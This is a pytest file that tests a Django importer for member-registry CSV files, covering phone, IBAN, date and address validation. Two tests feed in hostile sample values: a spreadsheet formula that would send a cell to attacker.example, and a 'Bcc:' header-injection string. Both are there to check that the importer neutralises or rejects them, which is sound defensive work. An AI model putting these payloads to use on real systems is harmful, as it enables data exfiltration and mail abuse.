from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from django.utils import translation

from guichet.audit.models import Event
from guichet.organisations.models import Organisation
from guichet.registry.csv_import import CsvFormatError, import_members
from guichet.registry.matching import finess_check_digit
from guichet.registry.models import MemberRecord

PENSION_HEADER = "member_number,first_name,last_name,birth_date,email,mobile,landline,address,iban,fact:employer," \
                 "fact:affiliation_year\n"
MARIE = '123456789,Marie-Hélène,D\'Arcy,14/03/1958,Marie.Darcy@Example.org,06 12 34 56 78,01 45 67 89 12,' \
        '"12 rue des Lilas\n75011 Paris",FR76 3000 6000 0112 3456 7890 189,Mairie de Lyon,1984\n'
JEAN = "100000002,Jean,Lefèvre,1949-11-02,jean@example.org,+33 7 34 56 78 90,,,4567890189,Région Bretagne,1970\n"


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with translation.override("en"):
        yield


def write(tmp_path: Path, text: str, name: str = "members.csv", encoding: str = "utf-8") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def report_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


def test_import_stores_normalised_values(pension: Organisation, tmp_path: Path) -> None:
    summary = import_members(pension, write(tmp_path, PENSION_HEADER + MARIE + JEAN))
    assert (summary.read, summary.created, summary.updated, summary.rejected, summary.written) == (2, 2, 0, 0, True)
    marie = MemberRecord.objects.get(organisation=pension, member_number="123456789")
    assert (marie.first_name, marie.last_name) == ("Marie-Hélène", "D'Arcy")
    assert (marie.first_name_key, marie.last_name_key) == ("mariehelene", "darcy")
    assert marie.birth_date == date(1958, 3, 14)
    assert (marie.email, marie.email_key) == ("Marie.Darcy@Example.org", "marie.darcy@example.org")
    assert (marie.mobile, marie.landline) == ("+33612345678", "+33145678912")
    assert marie.address == "12 rue des Lilas\n75011 Paris"
    assert marie.iban_suffix == "4567890189"  # only the end of the IBAN is kept
    assert marie.facts == {"employer": "Mairie de Lyon", "affiliation_year": "1984"}
    jean = MemberRecord.objects.get(organisation=pension, member_number="100000002")
    assert (jean.mobile, jean.landline, jean.address) == ("+33734567890", "", "")
    event = Event.objects.get(kind="registry.imported")
    assert event.organisation == pension and event.data["created"] == 2


def test_importing_twice_changes_nothing_but_counts_updates(pension: Organisation, tmp_path: Path) -> None:
    path = write(tmp_path, PENSION_HEADER + MARIE + JEAN)
    import_members(pension, path)
    before = list(MemberRecord.objects.order_by("member_number").values("id", "email", "facts", "mobile"))
    summary = import_members(pension, path)
    assert (summary.created, summary.updated) == (0, 2)
    assert list(MemberRecord.objects.order_by("member_number").values("id", "email", "facts", "mobile")) == before


def test_an_import_only_updates_the_columns_it_has(pension: Organisation, tmp_path: Path) -> None:
    import_members(pension, write(tmp_path, PENSION_HEADER + MARIE))
    import_members(pension, write(tmp_path, "member_number,mobile\n123456789,0698765432\n", "mobile.csv"))
    marie = MemberRecord.objects.get(member_number="123456789")
    assert (marie.mobile, marie.email, marie.facts["employer"]) == ("+33698765432", "Marie.Darcy@Example.org",
                                                                   "Mairie de Lyon")


def test_one_rejected_row_means_nothing_is_written(pension: Organisation, tmp_path: Path) -> None:
    bad = "12345,Paul,Martin,1960-01-01,paul@example.org,,,,,,\n"
    report = tmp_path / "rejected.csv"
    summary = import_members(pension, write(tmp_path, PENSION_HEADER + MARIE + bad + JEAN), report=report)
    assert (summary.read, summary.rejected, summary.written, summary.created) == (3, 1, False, 0)
    assert not MemberRecord.objects.exists()
    assert not Event.objects.filter(kind="registry.imported").exists()
    # Marie's address spans lines 2-3, so the bad row starts on line 4.
    assert report_rows(report) == [
        ["line", "member_number", "reason"],
        ["4", "12345", "“12345” does not have the format of this organisation's member numbers."],
    ]


def test_partial_import_writes_the_valid_rows_and_reports_the_others(pension: Organisation, tmp_path: Path) -> None:
    rows = ("100000003,Paul,Martin,31/02/1960,,,,,,,\n"
            "100000004,Léa,Petit,1990-05-05,not-an-email,,,,,,\n"
            "100000005,Zoé,Roux,1990-05-05,,01 45 67 89 12,,,,,\n"
            "100000006,Zoé,Roux,1990-05-05,,,,,,,,\n"
            "123456789,Marie,Darcy,1958-03-14,,,,,,,\n")
    report = tmp_path / "rejected.csv"
    summary = import_members(pension, write(tmp_path, PENSION_HEADER + MARIE + JEAN + rows), partial=True,
                             report=report)
    assert (summary.read, summary.created, summary.rejected, summary.written) == (7, 2, 5, True)
    assert set(MemberRecord.objects.values_list("member_number", flat=True)) == {"123456789", "100000002"}
    lines = report_rows(report)[1:]
    assert [(line, number) for line, number, _ in lines] == [
        ("5", "100000003"), ("6", "100000004"), ("7", "100000005"), ("8", "100000006"), ("9", "123456789")]
    reasons = [reason for _, _, reason in lines]
    assert "not a date" in reasons[0]
    assert "not a valid email address" in reasons[1]
    assert "not a mobile phone number" in reasons[2]
    assert "has 12 values but the header has 11 columns" in reasons[3]
    assert "appears earlier in the file" in reasons[4]
    assert summary.first_rejections[0].line == 5


@pytest.mark.parametrize("header, message", [
    ("member_number,surname\n", "Unknown column “surname”"),
    ("first_name,last_name\n", "no “member_number” column"),
    ("member_number,email,Email\n", "“email” appears more than once"),
    ("member_number,fact:Employer Name\n", "not a valid fact name"),
    ("", "The file is empty"),
])
def test_bad_headers_are_named(pension: Organisation, tmp_path: Path, header: str, message: str) -> None:
    with pytest.raises(CsvFormatError, match=message):
        import_members(pension, write(tmp_path, header + "123456789,x\n"[: 0 if not header else None]))
    assert not MemberRecord.objects.exists()


def test_bom_and_semicolons_from_a_french_spreadsheet(farm: Organisation, tmp_path: Path) -> None:
    text = ("member_number;last_name;birth_date;category;fact:recent_benefit_amount;fact:health_card_serial\r\n"
            "12345678;Lévêque;01/02/1950;individual;1 234,56 €;0123456789\r\n"
            "1234567890123;Le Goff;1960-12-31;farmer;;\r\n")
    summary = import_members(farm, write(tmp_path, "\ufeff" + text))
    assert (summary.created, summary.rejected) == (2, 0)
    leveque = MemberRecord.objects.get(member_number="12345678")
    assert (leveque.last_name_key, leveque.category) == ("leveque", "individual")
    assert leveque.facts == {"recent_benefit_amount": "1234.56", "health_card_serial": "0123456789"}
    assert MemberRecord.objects.get(member_number="1234567890123").facts == {}


def test_farm_categories_and_amounts_are_checked(farm: Organisation, tmp_path: Path) -> None:
    text = ("member_number;category;fact:contribution_invoice_amount\n"
            "12345678;retired;\n"
            "12345679;farmer;deux cents\n")
    summary = import_members(farm, write(tmp_path, text), partial=True)
    assert summary.rejected == 2
    assert "Unknown category “retired”" in summary.first_rejections[0].reason
    assert "is not an amount" in summary.first_rejections[1].reason


def test_finess_numbers_are_checked(health: Organisation, tmp_path: Path) -> None:
    corsica = "2A000001" + finess_check_digit("2A000001")
    text = f"member_number,iban\n750712184,90189\n{corsica.lower()},FR1420041010050500013M02606\n" \
           "750712185,90189\n750712184,123\n"
    summary = import_members(health, write(tmp_path, text), partial=True)
    assert set(MemberRecord.objects.values_list("member_number", "iban_suffix")) == {
        ("750712184", "90189"), (corsica, "0013M02606")}
    assert summary.rejected == 2
    assert "not a valid FINESS number" in summary.first_rejections[0].reason


def test_invalid_iban_is_rejected(health: Organisation, tmp_path: Path) -> None:
    summary = import_members(health, write(tmp_path, "member_number,iban\n750712184,FR7630006000011234567890188\n"))
    assert summary.rejected == 1 and "IBAN is not valid" in summary.first_rejections[0].reason


@pytest.mark.parametrize("typed, stored", [
    ("06 12 34 56 78", "+33612345678"), ("06.12.34.56.78", "+33612345678"), ("+33 (0)6 12 34 56 78", "+33612345678"),
    ("0033612345678", "+33612345678"), ("+44 7911 123456", "+447911123456"), ("0690 12 34 56", "+590690123456"),
])
def test_mobile_numbers_become_e164(pension: Organisation, tmp_path: Path, typed: str, stored: str) -> None:
    summary = import_members(pension, write(tmp_path, f'member_number,mobile\n123456789,"{typed}"\n'))
    assert summary.rejected == 0, summary.first_rejections
    assert MemberRecord.objects.get().mobile == stored


@pytest.mark.parametrize("typed", ["06 12 34", "bonjour", "01 45 67 89 12"])
def test_bad_mobile_numbers_are_rejected(pension: Organisation, tmp_path: Path, typed: str) -> None:
    summary = import_members(pension, write(tmp_path, f"member_number,mobile\n123456789,{typed}\n"))
    assert summary.rejected == 1 and not MemberRecord.objects.exists()


def test_dry_run_counts_exactly_and_writes_nothing(pension: Organisation, tmp_path: Path) -> None:
    path = write(tmp_path, PENSION_HEADER + MARIE + JEAN)
    import_members(pension, write(tmp_path, PENSION_HEADER + MARIE, "first.csv"))
    summary = import_members(pension, path, dry_run=True)
    assert (summary.created, summary.updated, summary.written) == (1, 1, False)
    assert MemberRecord.objects.count() == 1
    assert Event.objects.filter(kind="registry.imported").count() == 1


def test_a_file_that_is_not_utf8_is_refused(pension: Organisation, tmp_path: Path) -> None:
    path = write(tmp_path, "member_number,last_name\n123456789,Lefèvre\n", encoding="latin-1")
    with pytest.raises(CsvFormatError, match=r"not UTF-8 text \(line 2\)"):
        import_members(pension, path)
    assert not MemberRecord.objects.exists()


def test_blank_lines_are_skipped_and_quotes_hold_delimiters(pension: Organisation, tmp_path: Path) -> None:
    text = 'member_number,last_name,address\n\n123456789,"Dupont, dit ""Jo""","1 rue A\n\n75001 Paris"\n\n'
    summary = import_members(pension, write(tmp_path, text))
    assert (summary.read, summary.created) == (1, 1)
    record = MemberRecord.objects.get()
    assert (record.last_name, record.address) == ('Dupont, dit "Jo"', "1 rue A\n75001 Paris")


def test_reasons_are_in_french_by_default(pension: Organisation, tmp_path: Path) -> None:
    with translation.override("fr"):
        summary = import_members(pension, write(tmp_path, "member_number\n12\n"))
        with pytest.raises(CsvFormatError, match="Colonne inconnue « nom »"):
            import_members(pension, write(tmp_path, "member_number,nom\n", "bad.csv"))
    assert "ne correspond pas au format" in summary.first_rejections[0].reason


def test_the_documented_example(farm: Organisation, tmp_path: Path) -> None:
    from django.conf import settings

    guide = (Path(settings.BASE_DIR) / "docs" / "registry-csv.md").read_text(encoding="utf-8")
    example = guide.split("```csv\n", 1)[1].split("```", 1)[0]
    documented_report = guide.split("```csv\n", 2)[2].split("```", 1)[0]
    report = tmp_path / "rejected.csv"
    with translation.override("fr"):
        summary = import_members(farm, write(tmp_path, example), report=report)
    assert (summary.read, summary.rejected, summary.written) == (3, 1, False)
    assert report.read_text(encoding="utf-8").replace("\r\n", "\n") == documented_report
    assert import_members(farm, write(tmp_path, example.rsplit("12345;", 1)[0], "fixed.csv")).created == 2
    marie = MemberRecord.objects.get(member_number="12345678")
    assert marie.facts == {"health_card_serial": "1234567890", "recent_benefit_amount": "1234.56"}


def test_an_address_a_letter_cannot_carry_is_rejected_with_its_line(farm: Organisation, tmp_path: Path) -> None:
    """The letter's address block is the name plus at most 6 lines (AFNOR NF Z10-011): the import refuses more,
    rather than store an address that no letter (provisioning, recovery) can then be sent to."""
    six = "\n".join(f"Ligne {i}" for i in range(1, 7))
    seven = "\n".join(f"Ligne {i}" for i in range(1, 8))
    text = f'member_number,first_name,last_name,address\n12000001,Marie,Dupont,"{six}"\n12000002,Jean,Roux,"{seven}"\n'
    report = tmp_path / "rejected.csv"
    with translation.override("fr"):
        summary = import_members(farm, write(tmp_path, text), report=report)
    assert (summary.rejected, summary.written) == (1, False) and not MemberRecord.objects.exists()
    assert report_rows(report)[1] == [
        "8", "12000002", "L'adresse a 7 lignes ; un courrier en prend au plus 6 en plus du nom."]


def test_a_report_named_like_the_imported_file_is_refused_and_the_file_kept(pension: Organisation,
                                                                             tmp_path: Path) -> None:
    path = write(tmp_path, PENSION_HEADER + MARIE)
    before = path.read_bytes()
    with translation.override("fr"), pytest.raises(CsvFormatError, match="rapport"):
        import_members(pension, path, report=tmp_path / "." / "members.csv")
    assert path.read_bytes() == before and not MemberRecord.objects.exists()


def test_report_cells_that_a_spreadsheet_would_evaluate_are_made_text(pension: Organisation, tmp_path: Path) -> None:
    """The report quotes the registry's cells, and operators open it in a spreadsheet (CSV injection)."""
    report = tmp_path / "rejected.csv"
    cells = ['=HYPERLINK("http://attacker.example/?"&B1,"Click")', "+33 1", "-12", "@SUM(A1)", "12"]
    text = "member_number,last_name\n" + "".join('"' + c.replace('"', '""') + '",X\n' for c in cells)
    import_members(pension, write(tmp_path, text), report=report)
    rows = report_rows(report)[1:]
    assert [number for _, number, _ in rows] == ["'" + c for c in cells[:4]] + ["12"]
    assert not any(reason.startswith(("=", "+", "-", "@")) for _, _, reason in rows)


@pytest.mark.parametrize("column, cell", [
    ("first_name", '"Marie\r\nBcc: x@attacker.example"'),
    ("last_name", "Dupont\u202e"),                    # right-to-left override
    ("last_name", "Dupont\x1b[2J"),                   # terminal escape
    ("last_name", "Du\u200bpont"),                    # zero-width space
    ("last_name", "Dupont\u2028Martin"),              # Unicode line separator
    ("category", "far\tmer"),
    ("fact:employer", "Mairie\x07"),
    ("address", '"12 rue des Lilas\u202e\n75011 Paris"'),
])
def test_control_and_format_characters_are_rejected(farm: Organisation, tmp_path: Path, column: str,
                                                    cell: str) -> None:
    summary = import_members(farm, write(tmp_path, f"member_number,{column}\n12000001,{cell}\n"))
    assert summary.rejected == 1 and not MemberRecord.objects.exists()
    assert f"column {column} contains an invisible or control character" in summary.first_rejections[0].reason


def test_address_line_breaks_are_still_welcome(farm: Organisation, tmp_path: Path) -> None:
    summary = import_members(farm, write(tmp_path, 'member_number,address\n12000001,"1 rue A\r\n75001 Paris"\n'))
    assert summary.rejected == 0 and MemberRecord.objects.get().address == "1 rue A\n75001 Paris"


def test_fact_cells_are_at_most_200_characters(pension: Organisation, tmp_path: Path) -> None:
    text = f"member_number,fact:employer\n123456789,{'A' * 200}\n100000002,{'A' * 201}\n"
    summary = import_members(pension, write(tmp_path, text), partial=True)
    assert (summary.created, summary.rejected) == (1, 1)
    assert summary.first_rejections[0].reason == "The value in column fact:employer is longer than 200 characters."


def test_a_cell_beyond_the_csv_field_limit_is_explained_in_french(pension: Organisation, tmp_path: Path) -> None:
    path = write(tmp_path, f"member_number,fact:employer\n123456789,{'A' * 200_000}\n")
    with translation.override("fr"), pytest.raises(CsvFormatError) as error:
        import_members(pension, path)
    assert str(error.value).startswith("Une valeur vers la ligne 2 dépasse 131072 caractères")
    assert "field limit" not in str(error.value)


def test_address_lines_are_at_most_38_characters(farm: Organisation, tmp_path: Path) -> None:
    """AFNOR NF Z10-011's 38 characters a line: a longer line may not fit the envelope's window."""
    fits = "12 avenue du Maréchal-de-Lattre-de-Tassigny"[:38]
    too_long = fits + "y"
    text = (f'member_number,address\n12000001,"{fits}\n75011 Paris"\n'
            f'12000002,"Résidence B\n{too_long}\n75011 Paris"\n')
    summary = import_members(farm, write(tmp_path, text), partial=True)
    assert (summary.created, summary.rejected) == (1, 1)
    rejection = summary.first_rejections[0]
    assert rejection.line == 4 and "longer than 38 characters" in rejection.reason
    assert MemberRecord.objects.get().address == f"{fits}\n75011 Paris"
